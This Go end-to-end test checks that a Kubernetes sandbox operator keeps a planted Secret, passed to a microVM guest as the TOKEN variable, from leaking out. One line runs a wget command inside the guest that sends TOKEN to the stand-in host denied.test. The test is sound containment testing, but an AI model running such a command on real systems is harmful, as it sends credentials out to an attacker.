// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"botbottle.dev/bottle-operator/test/builders"
)

func TestSecretIsContained(t *testing.T) {
	t.Parallel()
	const planted = "s3cr3t-planted-91d4e7"
	c := connect(t)
	ns := c.Namespace(t)
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "agent", Namespace: ns}, StringData: map[string]string{"token": planted}}
	if err := c.Create(t.Context(), secret); err != nil {
		t.Fatal(err)
	}
	b := builders.MakeBottle("secret").Namespace(ns).Slug("secret").EnvFromSecret("TOKEN", "agent", "token").Pin(node1).Obj()
	c.Apply(t, b)
	c.WaitRunning(t, b)
	if got := guestEnv(c.Guest(t, b, "cat", "/proc/self/environ"))["TOKEN"]; got != planted {
		t.Fatalf("TOKEN in the guest: got %q, want the Secret's value", got)
	}
	// The value must also not leak through an attempt to send it out.
	c.TryExec(t, node1, "smolvm", "machine", "exec", "--name", "bottle-secret-"+string(b.UID)[:8], "--", "sh", "-c",
		"wget -qO- \"http://denied.test/$TOKEN?q=$TOKEN\" --header \"X: $TOKEN\"")
	c.WantSecretContained(t, b, planted)
	c.DeleteAndWait(t, b)
	wantNothingLeft(t, c, node1, b)
	c.WantSecretGone(t, node1, planted)
}
